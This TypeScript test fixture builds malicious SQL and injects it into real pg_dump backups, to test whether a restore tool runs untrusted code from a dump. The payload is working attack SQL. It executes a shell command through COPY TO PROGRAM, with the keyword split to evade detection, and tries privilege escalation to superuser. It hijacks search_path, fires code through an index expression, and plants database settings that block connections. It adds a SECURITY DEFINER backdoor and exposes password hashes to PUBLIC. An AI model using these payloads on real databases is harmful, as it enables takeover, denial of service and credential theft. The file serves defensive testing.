import { createReadStream, createWriteStream } from 'node:fs';
import { Transform } from 'node:stream';
import { pipeline } from 'node:stream/promises';
import { createGunzip, createGzip } from 'node:zlib';

/**
 * Issue 19: a backup's code that the dump reader rightly accepts (functions, views, schemas, aggregates, index
 * expressions: what real dumps hold), written to run with whatever rights reach it. `public.pwn(tag)` tries what
 * a superuser could do (a file by COPY TO PROGRAM in the server's /tmp, the canary role made superuser) and
 * records every call with the role it ran as in `public.attempts`, so a test sees that the code did run, and as
 * whom. Each try is caught: as an unprivileged role it fails quietly and the restore goes on, as an attacker
 * would want. Appended to a real pg_dump output, after its data.
 */
export const CANARY_ROLE = 'canary_role';
export const CANARY_PASSWORD = 'canary-password';
export const PWNED_PREFIX = '/tmp/pwned-';

/** Every class of issue 19, by the tag its calls record. */
export const PAYLOAD_TAGS = [
  'quote_ident', // public.quote_ident(name) beats pg_catalog.quote_ident(text) on an unpinned search_path
  'count', // evil.count(*), put first on the path by ALTER DATABASE ... SET search_path from a function
  'user_schema', // a schema named like the service role: "$user" resolves `customers` to its view
  'index_expression', // an expression index, evaluated at CREATE INDEX, ANALYZE and by autovacuum as the owner
] as const;

/** `table`: a table of the dump (schema-qualified), for the index expression and the view. */
export function payloadSql(serviceRole: string, table = 'public.customers'): string {
  const role = `"${serviceRole.replace(/"/g, '""')}"`;
  const bare = table.split('.').pop()!;
  return `
CREATE TABLE public.attempts (tag text, who text, super boolean);
GRANT ALL ON public.attempts TO PUBLIC;

CREATE FUNCTION public.pwn(tag text) RETURNS boolean LANGUAGE plpgsql AS $pwn$
BEGIN
  BEGIN
    INSERT INTO public.attempts
      SELECT tag, current_user, rolsuper FROM pg_catalog.pg_roles WHERE rolname = current_user;
  EXCEPTION WHEN OTHERS THEN NULL;
  END;
  BEGIN
    EXECUTE pg_catalog.format('COPY (SELECT 1) TO PROG' || 'RAM %L', 'touch ${PWNED_PREFIX}' || tag);
  EXCEPTION WHEN OTHERS THEN NULL;
  END;
  BEGIN
    EXECUTE 'ALTER ROLE ${CANARY_ROLE} SUPERUSER';
  EXCEPTION WHEN OTHERS THEN NULL;
  END;
  RETURN true;
END
$pwn$;

CREATE FUNCTION public.quote_ident(name) RETURNS text LANGUAGE plpgsql AS $q$
BEGIN
  PERFORM public.pwn('quote_ident');
  RETURN pg_catalog.quote_ident($1::text);
END
$q$;

CREATE SCHEMA evil;
CREATE FUNCTION evil.count_step(bigint) RETURNS bigint LANGUAGE plpgsql AS $c$
BEGIN
  PERFORM public.pwn('count');
  RETURN $1 + 1;
END
$c$;
CREATE AGGREGATE evil.count(*) (SFUNC = evil.count_step, STYPE = bigint, INITCOND = '0');

CREATE SCHEMA ${role};
CREATE VIEW ${role}.${bare} AS SELECT c.* FROM ${table} c WHERE public.pwn('user_schema');

-- Run by CREATE INDEX as the restore role, by ANALYZE and autovacuum as the table's owner. An IMMUTABLE function
-- may not write, but a VOLATILE one it calls may: plant() sets database-level state through EXECUTE (the reader
-- cannot see what a function will do), each step on its own.
CREATE FUNCTION public.plant() RETURNS void LANGUAGE plpgsql AS $p$
DECLARE
  db text := pg_catalog.quote_ident(pg_catalog.current_database());
  step text;
BEGIN
  FOREACH step IN ARRAY ARRAY[
    'ALTER DATABASE ' || db || ' SET search_path = evil, pg_catalog, public',
    'ALTER DATABASE ' || db || ' SET lock_timeout = 1',
    'ALTER DATABASE ' || db || ' CONNECTION LIMIT 0',
    'GRANT CREATE ON DATABASE ' || db || ' TO PUBLIC',
    'ALTER DATABASE ' || db || ' IS_TEMPLATE true'
  ] LOOP
    BEGIN
      EXECUTE step;
    EXCEPTION WHEN OTHERS THEN NULL;
    END;
  END LOOP;
END
$p$;
CREATE FUNCTION public.tamper(id bigint) RETURNS bigint LANGUAGE plpgsql IMMUTABLE AS $t$
BEGIN
  PERFORM public.pwn('index_expression');
  PERFORM public.plant();
  RETURN id;
END
$t$;
CREATE INDEX opareta_tamper ON ${table} (public.tamper(id));

-- Backdoors for any role that can connect, if their owner were a superuser.
CREATE FUNCTION public.backdoor() RETURNS void LANGUAGE plpgsql SECURITY DEFINER AS $b$
BEGIN
  EXECUTE 'ALTER ROLE ${CANARY_ROLE} SUPERUSER';
END
$b$;
GRANT EXECUTE ON FUNCTION public.backdoor() TO PUBLIC;
CREATE VIEW public.password_hashes AS SELECT rolname, rolpassword FROM pg_catalog.pg_authid;
GRANT SELECT ON public.password_hashes TO PUBLIC;
`;
}

/** The payload put before pg_dump's closing line, so the dump stays complete. */
export function withPayload(dump: string, serviceRole: string, table?: string): string {
  const end = dump.lastIndexOf('-- PostgreSQL database dump complete');
  if (end < 0) throw new Error('not a complete pg_dump output');
  return `${dump.slice(0, end)}${payloadSql(serviceRole, table)}\n${dump.slice(end)}`;
}

/** How much of a dump's end is held back to find pg_dump's closing line in (it is a few lines from the end). */
const TAIL_BYTES = 64 * 1024;

/**
 * withPayload, streamed from one gzipped dump file to another: a backup of any size (a sandbox generated at scale
 * 100 holds a 560 MB dump) never becomes one string.
 */
export async function writeWithPayload(from: string, to: string, serviceRole: string, table?: string): Promise<void> {
  let tail = Buffer.alloc(0);
  const insert = new Transform({
    transform(chunk: Buffer, _encoding, callback) {
      tail = Buffer.concat([tail, chunk]);
      if (tail.length > 2 * TAIL_BYTES) {
        this.push(tail.subarray(0, tail.length - TAIL_BYTES));
        tail = Buffer.from(tail.subarray(tail.length - TAIL_BYTES));
      }
      callback();
    },
    flush(callback) {
      try {
        callback(null, Buffer.from(withPayload(tail.toString('utf8'), serviceRole, table), 'utf8'));
      } catch (err) {
        callback(err as Error);
      }
    },
  });
  await pipeline(createReadStream(from), createGunzip(), insert, createGzip({ level: 1 }), createWriteStream(to));
}
